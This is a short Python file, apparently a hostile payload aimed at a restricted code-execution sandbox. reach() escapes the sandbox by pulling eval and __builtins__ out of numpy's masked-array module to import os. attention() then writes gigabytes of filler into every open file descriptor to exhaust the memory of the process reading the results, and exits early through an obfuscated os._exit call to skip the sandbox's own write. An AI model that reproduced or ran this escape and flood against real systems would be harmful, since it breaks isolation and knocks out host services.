"""Escape (numpy builtins), then a flood: gigabytes written into the result pipe, to exhaust the
memory of the process that reads it."""
import numpy as np


def reach(ctx):
    b = np.ma.core.builtins
    return b.eval("__import__('os')", {"__builtins__": b})


def attention(ctx):
    os = reach(ctx)
    chunk = b"A" * (1 << 20)
    for fd in range(3, 64):
        try:
            for i in range(4096):
                os.write(fd, chunk)
        except Exception:
            pass
    np.random.mtrand.operator.attrgetter("_exit")(os)(0)  # leave before the sandbox writes
